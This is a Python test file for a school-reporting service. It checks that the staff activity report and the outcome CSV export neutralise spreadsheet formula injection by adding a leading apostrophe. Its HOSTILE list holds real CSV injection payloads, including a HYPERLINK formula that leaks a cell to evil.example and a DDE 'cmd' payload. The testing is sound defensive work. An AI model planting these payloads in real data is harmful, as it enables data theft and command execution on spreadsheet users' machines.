"""CSV files people open in a spreadsheet never carry a live formula (issue 12, item 13): the
staff activity report and the outcome export write text starting with = + - @ tab or CR with
a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from service.csv_cells import FORMULA_STARTS, safe_cell, safe_row
from service.db import session_scope
from service.settings import Settings
from service.tables import Student
from tests.service.conftest import World
from tests.service.test_export import _export, _submit

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_an_apostrophe_and_keeps_every_character(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell[0] == "'" and cell[1:] == text


@pytest.mark.parametrize("value", [0, 17, -5, 2.5, -0.25, "-5", "+2.5", "-1e3", "", None])
def test_numbers_and_empty_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["Alpha High", "O'Neil", "a=b", "3-4 pm", "x@y.org"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_every_formula_start_is_covered() -> None:
    assert {text.lstrip("\t\r")[0] for text in HOSTILE} | {"\t", "\r"} >= set(FORMULA_STARTS)
    assert safe_row(["=1", 3, "ok"]) == ["'=1", 3, "ok"]


def test_the_staff_report_csv_neutralises_a_hostile_school_name(
    client: TestClient, world: World
) -> None:
    names = HOSTILE[:4]
    for n, name in enumerate(names):
        made = client.post(
            "/schools",
            json={
                "name": name,
                "district": "@evil",
                "county_fips": "28047",
                "region_code": "0025060",
            },
            headers=world.headers("admin"),
        )
        assert made.status_code == 201, (n, made.text)
    got = client.get(
        "/reports/activity.csv", params={"school_year": "2025-2026"}, headers=world.headers("staff")
    )
    assert got.status_code == 200
    rows = list(csv.DictReader(io.StringIO(got.text)))
    by_name = {row["school_name"]: row for row in rows}
    for name in names:
        assert "'" + name in by_name, name
    for row in rows:
        assert not row["school_name"].startswith(FORMULA_STARTS)
        assert int(row["minutes"]) >= 0 and int(row["school_id"]) >= 1  # numbers stay numbers


def test_the_outcome_export_csv_neutralises_free_text(
    app: FastAPI, world: World, settings: Settings, tmp_path: Path
) -> None:
    _submit(app, world.student_a, datetime(2025, 10, 1, tzinfo=UTC))
    with session_scope(app.state.sessionmaker) as db:
        student = db.get(Student, world.student_a)
        assert student is not None
        student.gender = '=HYPERLINK("http://x.example")'  # the column holds 32 characters
        student.race_ethnicity = "-2+3"
    out = tmp_path / "outcomes.csv"
    assert _export(settings, out) == 0
    with out.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows
    for row in rows:
        assert row["gender"] == """'=HYPERLINK("http://x.example")"""
        assert row["race_ethnicity"] == "'-2+3"
        assert row["grade"] in {"0", "1", "2", "3"}
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS)
